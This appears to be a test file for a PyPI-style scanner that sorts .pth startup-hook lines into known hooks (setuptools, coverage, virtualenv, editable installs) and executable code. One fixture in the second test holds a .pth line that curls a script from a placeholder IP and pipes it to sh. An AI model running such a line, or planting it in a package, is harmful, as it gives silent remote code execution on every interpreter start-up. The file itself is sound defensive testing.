"""Well-known .pth hooks are noted without a threat; anything else in a .pth import line still is one."""

from pypi_platform.lib.scanner.python_rules import pth_findings

DISTUTILS = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
    "enabled and __import__('_distutils_hack').add_shim(); \n"
)


def _rules(path: str, text: str) -> list[str]:
    return [finding.rule for finding in pth_findings(path, text)]


def test_install_pth_known_hook_setuptools_coverage_virtualenv_and_editable_installs():
    assert _rules("setuptools-70.0.dist-info/../distutils-precedence.pth", DISTUTILS) == [
        "install.pth-known-hook"
    ]
    assert _rules("x/coverage.pth", "import coverage; coverage.process_startup()\n") == [
        "install.pth-known-hook"
    ]
    assert _rules("venv/_virtualenv.pth", "import _virtualenv\n") == ["install.pth-known-hook"]
    editable = "import __editable___pkg_1_0_finder; __editable___pkg_1_0_finder.install()\n"
    assert _rules("__editable__.pkg-1.0.pth", editable) == ["install.pth-known-hook"]


def test_a_known_name_with_other_code_is_still_code_run_at_start_up():
    text = "import os; os.system('curl -s http://198.51.100.1/x | sh')\n"
    assert "install.pth-executes-code" in _rules("distutils-precedence.pth", text)
    assert _rules("evil.pth", "import _virtualenv\n") == ["install.pth-executes-code"]
